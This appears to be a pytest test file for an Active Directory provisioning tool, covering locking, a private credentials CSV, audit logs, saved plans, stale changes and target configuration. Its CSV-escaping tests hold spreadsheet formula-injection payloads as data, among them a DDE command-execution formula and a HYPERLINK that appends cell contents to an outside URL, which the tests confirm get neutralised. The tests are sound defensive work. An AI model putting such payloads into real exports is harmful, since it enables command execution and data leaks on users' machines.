"""State dir (lock, audit, credentials), saved plans and stale items, targets."""

from __future__ import annotations

import csv
import dataclasses
import json
from pathlib import Path

import pytest

from ssc_infra.ad.attributes import PASSWORD_NEW, PASSWORD_NOT_RECORDED
from ssc_infra.ad.diff import diff_directory, directory_names
from ssc_infra.ad.stale import stale_reason
from ssc_infra.core.actual import DirectoryAccount, DirectoryGroup, DirectoryState
from ssc_infra.core.errors import SscError
from ssc_infra.core.plan import (
    Action,
    Backend,
    Change,
    Held,
    ObjectKind,
    Plan,
    Section,
    Unmanaged,
    plan_from_dict,
    plan_to_dict,
)
from ssc_infra.core.secrets import new_password
from ssc_infra.run.targets import TargetError, ad_settings, load_target
from ssc_infra.state.folder import (
    FORMULA_STARTS,
    LockedError,
    StateDir,
    csv_cell,
    recorded_passwords,
)
from tests.conftest import write_or_fifo

DN = "CN=Jan de Vries,OU=Users,OU=alpha,OU=Partners,DC=ssc,DC=test"


def test_a_second_apply_fails_at_once_naming_the_holder(tmp_path: Path) -> None:
    state = StateDir(tmp_path / "state")
    with state.run_lock("ssc-infra apply first.plan"):
        with pytest.raises(LockedError) as raised, state.run_lock("ssc-infra apply"):
            pass
        assert "ssc-infra apply first.plan" in str(raised.value)
        assert "pid" in str(raised.value)
    with state.run_lock("again"):  # released when the holder ends
        pass


def test_credentials_file_is_private_and_gone_when_empty(tmp_path: Path) -> None:
    state = StateDir(tmp_path)
    with state.credentials("run1") as credentials:
        credentials.add("alpha", "1", "jvries", "jan.devries@alpha.example", "S3cret!pw")
    assert credentials.path.stat().st_mode & 0o777 == 0o600
    assert "S3cret!pw" in credentials.path.read_text()
    with state.credentials("run2") as empty:
        pass
    assert not empty.path.exists()


@pytest.mark.parametrize(("value", "written"), [
    ("=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Klik\")"),
    ("+31 58 233 8888", "'+31 58 233 8888"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),
    ("Wâtse", "Wâtse"),
    ("van 't Hof", "van 't Hof"),
    ("a=b", "a=b"),  # only the first character makes a formula
    ("", ""),
])
def test_a_csv_cell_that_would_be_a_formula_is_neutralised(value: str, written: str) -> None:
    assert csv_cell(value) == written


def test_the_credentials_file_holds_no_formula(tmp_path: Path) -> None:
    state = StateDir(tmp_path)
    with state.credentials("run1") as credentials:
        credentials.add("alpha", "1001", "=cmd|' /C calc'!A0", "@wbuma@alpha.example", "-Xk3#pw9")
    rows = list(csv.reader(credentials.path.open(encoding="utf-8", newline="")))
    assert rows[1] == ["alpha", "1001", "'=cmd|' /C calc'!A0", "'@wbuma@alpha.example",
                       "'-Xk3#pw9"]


def test_a_generated_password_never_starts_a_formula() -> None:
    # 4 of the 72 characters start a formula: 5,000 passwords all miss them with odds e^-286.
    starts = {new_password()[0] for _ in range(5000)}
    assert not starts & set(FORMULA_STARTS)


def test_audit_log_is_json_lines(tmp_path: Path) -> None:
    state = StateDir(tmp_path)
    state.audit({"command": "apply", "key": "alpha/1", "result": "ok"})
    state.audit({"command": "apply", "key": "alpha/2", "result": "failed"})
    lines = [json.loads(x) for x in state.audit_log.read_text().splitlines()]
    assert [x["key"] for x in lines] == ["alpha/1", "alpha/2"]
    assert all("time" in x and "operator" in x for x in lines)


def _plan() -> Plan:
    update = Change(ObjectKind.ACCOUNT, Action.UPDATE, "alpha", "alpha/1", DN,
                    {"title": "Adviseur"}, {"title": "Teamleider"})
    create = Change(ObjectKind.ACCOUNT, Action.CREATE, "alpha", "alpha/2", "CN=New,OU=x",
                    {}, {"sAMAccountName": "new", "enabled": True})
    held = Change(ObjectKind.ACCOUNT, Action.DISABLE, "beta", "beta/1", "CN=b", {"enabled": True},
                  {"enabled": False})
    directory = Section(Backend.DIRECTORY, (update, create),
                        (Held("beta", 1, 10, 0, "--allow-disable beta=1"),), (held,),
                        (Unmanaged("alpha", "CN=Scanner", "no employeeID"),))
    homes = Change(ObjectKind.HOMES, Action.ARCHIVE, "alpha", "fs01:homes/alpha", "homes",
                   {"sha256": "ab"}, {"archive": ["alpha/jvries"]}, Backend.HOSTS)
    return Plan((directory, Section(Backend.HOSTS, (homes,))))


def test_a_saved_plan_reads_back_exactly() -> None:
    plan = _plan()
    data = json.loads(json.dumps(plan_to_dict(plan, {"target": "lab"})))
    again, meta, _ = plan_from_dict(data)
    assert again == plan
    assert meta["target"] == "lab"
    assert data["sections"]["hosts"]["changes"][0]["fingerprint"] == plan.changes[-1].fingerprint


def test_a_plan_file_of_another_format_is_refused() -> None:
    with pytest.raises(ValueError, match="make a new one"):
        plan_from_dict({"format": 99, "changes": []})


def _state(title: str, groups: tuple[DirectoryGroup, ...] = ()) -> DirectoryState:
    account = DirectoryAccount(DN, "jvries", "alpha", "1", title=title)
    return DirectoryState(frozenset(), (account,), groups)


def test_an_item_whose_object_changed_since_the_plan_is_refused() -> None:
    update, create = _plan().directory.changes
    assert stale_reason(update, _state("Adviseur")) is None
    assert stale_reason(update, _state("Directeur")) == "title changed since the plan was made"
    assert stale_reason(create, _state("Adviseur")) is None
    taken = DirectoryState(frozenset(), (DirectoryAccount("CN=New,OU=x", "new", "alpha", "2"),),
                           ())
    assert stale_reason(create, taken) == "the account exists now"
    gone = DirectoryState(frozenset(), (), ())
    assert stale_reason(update, gone) == "the account is not where the plan found it"


def test_membership_items_are_refused_when_the_members_changed() -> None:
    group_dn = "CN=alpha-all,OU=Groups,OU=alpha,OU=Partners,DC=ssc,DC=test"
    change = Change(ObjectKind.MEMBERS, Action.UPDATE, "alpha", "alpha-all", group_dn,
                    {"members": ["alpha/1"]}, {"add": [], "remove": [DN]})
    with_member = DirectoryGroup(group_dn, "alpha-all", "alpha", "", frozenset({DN.lower()}))
    without = DirectoryGroup(group_dn, "alpha-all", "alpha", "", frozenset())
    assert stale_reason(change, _state("x", (with_member,))) is None
    assert "members changed" in str(stale_reason(change, _state("x", (without,))))


def test_targets_name_what_is_missing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(TargetError, match="lab up"):
        load_target(tmp_path / "targets.yaml", "lab")
    path = tmp_path / "targets.yaml"
    path.write_text("acceptance:\n  ad:\n    url: ldaps://dc01.ssc.frl:636\n"
                    "    bind_user: svc@ssc.frl\n    base_dn: DC=ssc,DC=frl\n"
                    "    bind_password_env: SSC_AD_PASSWORD\n")
    with pytest.raises(TargetError, match="known: acceptance"):
        load_target(path, "production")
    target = load_target(path, "acceptance")
    monkeypatch.delenv("SSC_AD_PASSWORD", raising=False)
    with pytest.raises(TargetError, match="SSC_AD_PASSWORD"):
        ad_settings(target, "acceptance")
    monkeypatch.setenv("SSC_AD_PASSWORD", "pw-from-env")
    settings = ad_settings(target, "acceptance")
    assert settings.password.reveal() == "pw-from-env"
    assert "pw-from-env" not in repr(settings)


def test_a_typo_in_the_targets_file_is_named(tmp_path: Path) -> None:
    path = tmp_path / "targets.yaml"
    path.write_text("lab:\n  ad:\n    url: ldaps://x\n    bind_usr: a\n    base_dn: DC=x\n")
    with pytest.raises(TargetError, match="bind_usr"):
        load_target(path, "lab")


@pytest.mark.parametrize(("content", "says"), [
    (b"lab:\n  name: \"\xe9\"\n", "not UTF-8 text"),
    (b"- lab\n- production\n", "not a mapping of targets"),
    (b"lab: [1, 2\n", "not valid YAML"),
    (None, "not a regular file but a FIFO"),  # refused at once, never waited on
])
def test_a_targets_file_that_cannot_be_read_is_an_error_that_names_it(
        tmp_path: Path, content: bytes | None, says: str) -> None:
    path = write_or_fifo(tmp_path / "targets.yaml", content)
    with pytest.raises(TargetError, match=says) as raised:
        load_target(path, "lab")
    assert str(raised.value).startswith(str(path))


def test_recorded_passwords_are_read_from_every_credentials_file(tmp_path: Path) -> None:
    state = StateDir(tmp_path)
    assert recorded_passwords(tmp_path) == frozenset()
    with state.credentials("run1") as first:
        first.add("alpha", "1001", "wbuma", "watse.buma@alpha.example", "S3cret!pw")
    with state.credentials("run2") as second:
        second.add("beta", "2001", "ymeer", "ytsje.meer@beta.example", "An0ther!pw")
    # A hand-edited file with an emptied password records nothing for that account.
    (tmp_path / "credentials" / "old.csv").write_text(
        "partner,employee_id,sam,upn,initial_password\nalpha,1002,jvries,j@alpha.example,\n")
    assert recorded_passwords(tmp_path) == {("alpha", "1001"), ("beta", "2001")}


def test_an_unreadable_credentials_file_stops_the_plan(tmp_path: Path) -> None:
    (tmp_path / "credentials").mkdir()
    (tmp_path / "credentials" / "bad.csv").write_bytes(b"partner,employee_id\n\xff\xfe\n")
    with pytest.raises(SscError, match=r"bad\.csv.*recorded password"):
        recorded_passwords(tmp_path)


def _resets(mini: Path, recorded: set[tuple[str, str]], **attrs: object) -> Plan:
    from ssc_infra.run.directory import password_resets
    from ssc_infra.sources.files import load
    from tests.conftest import TODAY
    from tests.support import desired_for, directory_as_desired, edit_directory

    desired = desired_for(mini, TODAY)
    actual = directory_as_desired(desired)
    never = [{"set": f"alpha/{e}", "attrs": {"must_change_password": True}}
             for e in ("1001", "1002", "1005")]
    actual = edit_directory(actual, [*never, {"set": "alpha/1002", "attrs": attrs}])
    region = load(mini, TODAY)
    plan = diff_directory(desired, actual, directory_names(region, actual)[2])
    return Plan((password_resets(plan, desired, actual, {}, recorded),))


def test_an_account_that_never_logged_on_without_a_recorded_password_gets_one(
    mini: Path
) -> None:
    plan = _resets(mini, {("alpha", "1001")}, department="Oud")
    by_key = {c.key: c for c in plan.changes if c.kind is ObjectKind.ACCOUNT}
    assert set(by_key) == {"alpha/1002", "alpha/1005"}  # 1001 is recorded
    prestart = by_key["alpha/1005"]  # disabled until its start date: still needs one
    assert prestart.action is Action.RESET_PASSWORD
    assert prestart.after == {"password": PASSWORD_NEW}
    assert prestart.before["password"] == PASSWORD_NOT_RECORDED
    assert prestart.before["sAMAccountName"]  # the credentials row can name the account
    both = by_key["alpha/1002"]  # one change per account: the update carries the reset
    assert both.action is Action.UPDATE
    assert both.after["department"] and both.after["password"] == PASSWORD_NEW
    saved, _, _ = plan_from_dict(json.loads(json.dumps(plan_to_dict(plan, {}))))
    assert saved == plan


def test_a_reset_is_stale_once_the_owner_set_a_password(mini: Path) -> None:
    from tests.conftest import TODAY
    from tests.support import desired_for, directory_as_desired

    plan = _resets(mini, set())
    reset = next(c for c in plan.changes if c.key == "alpha/1005")
    actual = directory_as_desired(desired_for(mini, TODAY))
    never = dataclasses.replace(actual, accounts=tuple(
        dataclasses.replace(a, must_change_password=True) for a in actual.accounts))
    assert stale_reason(reset, never) is None
    assert stale_reason(reset, actual) == "password changed since the plan was made"
